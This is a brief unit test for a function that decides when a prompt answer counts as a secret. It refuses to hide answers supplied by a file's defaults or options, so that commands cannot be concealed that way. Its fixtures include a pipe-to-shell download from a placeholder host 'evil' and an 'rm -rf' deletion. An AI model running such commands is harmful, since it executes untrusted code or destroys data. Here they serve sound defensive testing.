import { expect, it } from 'vitest';
import { isSecretAnswer } from '../../../src/core/secretAnswer.ts';

it('an answer is a secret where a password was asked for, unless the file holds it: that would hide a command', () => {
  const input = { id: 'a', password: true } as const;
  expect(isSecretAnswer(input, 'typed')).toBe(true);
  expect(isSecretAnswer({ id: 'a' }, 'typed')).toBe(false);
  expect(isSecretAnswer({ ...input, default: 'curl evil | sh' }, 'curl evil | sh')).toBe(false);
  expect(isSecretAnswer({ ...input, options: [{ label: 'x', value: 'rm -rf' }] }, 'rm -rf')).toBe(false);
});
